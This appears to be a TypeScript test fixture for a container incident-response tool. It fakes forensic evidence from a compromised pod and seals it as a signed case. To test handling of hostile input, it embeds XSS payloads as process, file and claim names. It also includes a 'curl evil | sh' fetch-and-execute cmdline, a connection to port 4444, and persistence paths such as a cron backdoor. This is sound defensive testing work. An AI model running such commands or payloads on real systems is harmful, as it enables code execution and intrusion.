import { generateKeyPairSync } from 'node:crypto';
import { loadSigningKey } from '../../../src/evidence/keys.js';
import { LocalEvidenceStore } from '../../../src/evidence/local-store.js';
import { sealCase } from '../../../src/evidence/manifest.js';
import { createRegistry } from '../../../src/observability/metrics.js';

export const SCRIPT_NAME = '<script>alert(1)</script>';
export const IMG_FILE = '/tmp/"><img src=x onerror=alert(2)>';

export function keyPair() {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  return {
    privatePem: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
    publicPem: publicKey.export({ type: 'spki', format: 'pem' }).toString(),
  };
}

const c = 'containers/0123456789ab';

/** Artifacts shaped like the collector's and the orchestrator's, with hostile names in them. */
export const caseFiles: Record<string, unknown> = {
  [`${c}/container.json`]: { id: '0123456789ab'.padEnd(64, '0'), runtime: 'runc', initPid: 100 },
  [`${c}/processes.json`]: {
    processes: [
      {
        pid: 100,
        ppid: 1,
        comm: 'nginx',
        cmdline: ['nginx', '-g', 'daemon off;'],
        exe: { path: '/usr/sbin/nginx', deleted: false },
        errors: {},
      },
      {
        pid: 120,
        ppid: 100,
        comm: 'sh',
        cmdline: ['sh', '-c', 'curl evil | sh'],
        exe: { path: '/bin/dash', deleted: false },
        errors: {},
      },
      {
        pid: 130,
        ppid: 120,
        comm: SCRIPT_NAME.slice(0, 15),
        cmdline: [SCRIPT_NAME, '--steal'],
        exe: { path: '/memfd:x (deleted)', deleted: true },
        fds: [
          {
            fd: 3,
            target: '/memfd:payload (deleted)',
            kind: 'memfd',
            artifact: `${c}/processes/130/fd-3.bin`,
          },
        ],
        status: { uid: [0, 0, 0, 0], someNewField: true },
        errors: {},
      },
      {
        pid: 140,
        ppid: 9999,
        comm: 'bash',
        cmdline: ['bash'],
        exe: { path: '/bin/bash', deleted: false },
        errors: {},
      },
      { pid: 'not-a-pid', comm: 'broken' },
    ],
    tree: [],
  },
  [`${c}/network.json`]: {
    hostNetwork: false,
    inet: [
      {
        protocol: 'tcp',
        localAddress: '0.0.0.0',
        localPort: 8080,
        remoteAddress: '0.0.0.0',
        remotePort: 0,
        state: 'LISTEN',
        uid: 0,
        inode: 1,
        owners: [{ pid: 100, fd: 6, comm: 'nginx' }],
      },
      {
        protocol: 'tcp',
        localAddress: '10.0.0.5',
        localPort: 41234,
        remoteAddress: '203.0.113.9',
        remotePort: 4444,
        state: 'ESTABLISHED',
        uid: 0,
        inode: 2,
        owners: [{ pid: 130, fd: 4, comm: SCRIPT_NAME.slice(0, 15) }],
      },
      {
        protocol: 'tcp6',
        localAddress: '::1',
        localPort: 9000,
        remoteAddress: '::',
        remotePort: 0,
        state: 'TIME_WAIT',
        uid: 0,
        inode: 3,
        owners: [],
      },
    ],
    unix: [],
    errors: {},
  },
  [`${c}/filesystem/diff.json`]: {
    layout: { upperDir: '/x', lowerDirs: [], mountId: 1 },
    changes: [
      { kind: 'A', path: '/app/cache/1', type: 'file', size: 10 },
      { kind: 'A', path: IMG_FILE, type: 'file', size: 5, mtime: '2026-11-28T08:00:00Z' },
      { kind: 'C', path: '/etc/ld.so.preload', type: 'file', size: 20 },
      { kind: 'A', path: '/etc/cron.d/backdoor', type: 'file', size: 30 },
      { kind: 'D', path: '/usr/bin/ps', type: 'file' },
      { kind: 'A', path: '/root/.bash_history', type: 'file', size: 40 },
    ],
  },
  [`${c}/exposure.json`]: [
    { id: 'runs-as-root', severity: 'low', detail: 'uid 0' },
    { id: 'privileged', severity: 'critical', detail: 'every capability' },
  ],
  [`${c}/report.json`]: {
    caseId: 'case-x',
    containerId: 'abc',
    runtime: 'runc',
    collected: [],
    failed: [{ what: 'memory', reason: `EPERM reading /proc/130/mem of ${SCRIPT_NAME}` }],
    skipped: [{ what: 'filesystem/writable-layer.tar', reason: 'larger than the 20Gi cap' }],
    gaps: [{ what: 'checkpoint', reason: 'kubelet checkpoint API disabled', newField: 1 }],
  },
  'orchestrator/alerts.json': {
    triggering: {
      rule: 'Drop and execute new binary in container',
      priority: 'Critical',
      time: '2026-11-28T08:00:00.123456789Z',
      source: 'syscall',
      output: `exec ${SCRIPT_NAME}`,
    },
    received: { count: 3, firstSeen: '2026-11-28T08:00:00Z', lastSeen: '2026-11-28T08:00:02Z' },
  },
  'orchestrator/report.json': {
    caseId: 'case-x',
    gaps: [{ what: 'logs of main (current)', reason: 'kubelet unreachable' }],
    skipped: [],
  },
  'orchestrator/pod.yaml': `apiVersion: v1
kind: Pod
metadata: {name: web, namespace: shop}
status:
  containerStatuses:
    - name: main
      image: registry.example/shop/web:1.2
      imageID: registry.example/shop/web@sha256:${'ab'.repeat(32)}
      containerID: runc://${'0123456789ab'.padEnd(64, '0')}
`,
};

/** Seals caseFiles as case `caseId` in a local store under `root`. */
export async function sealFixtureCase(root: string, caseId: string, privatePem: string): Promise<void> {
  const store = new LocalEvidenceStore({ root, registry: createRegistry() });
  const artifacts = [];
  for (const [name, value] of Object.entries(caseFiles)) {
    const body = typeof value === 'string' ? value : `${JSON.stringify(value, null, 2)}\n`;
    artifacts.push(
      await store.put(caseId, name, body, {
        collectedBy: `test/${name.split('/')[0]}`,
        collectedAt: '2026-11-28T08:00:05Z',
      }),
    );
  }
  await sealCase(
    store,
    caseId,
    {
      artifacts,
      caseInfo: {
        id: caseId,
        namespace: 'shop',
        pod: 'web',
        node: 'node-1',
        reason: `Falco: ${SCRIPT_NAME}`,
        policyRef: 'shop/contain-critical',
        volumeSnapshots: [
          {
            volume: 'data',
            claim: 'web-data',
            phase: 'Ready',
            name: 'case-x-0123456789',
            volumeSnapshotClass: 'csi-snap',
            snapshotHandle: 'snap-7f3a',
            restoreSize: '1Gi',
            creationTime: '2026-11-28T08:00:02Z',
          },
          { volume: 'cache', claim: IMG_FILE, phase: 'Skipped', message: `no class | ${SCRIPT_NAME}` },
        ],
        alert: {
          rule: 'Drop and execute new binary in container',
          priority: 'Critical',
          time: '2026-11-28T08:00:00.123456789Z',
          source: 'syscall',
        },
      },
      timeline: [
        {
          time: '2026-11-28T08:00:01.000Z',
          action: 'IsolateNetwork',
          outcome: 'Succeeded',
          message: 'deny-all NetworkPolicy',
        },
        { time: '2026-11-28T08:00:01.500Z', action: 'LabelPod', outcome: 'Succeeded' },
        { time: '2026-11-28T08:00:02.000Z', action: 'ContainNode', outcome: 'Succeeded' },
        {
          time: '2026-11-28T08:00:09.000Z',
          action: 'CollectEvidence',
          outcome: 'Succeeded',
          message: '1 of 1 containers collected',
        },
      ],
    },
    loadSigningKey(privatePem),
    new Date('2026-11-28T08:00:10.000Z'),
  );
}
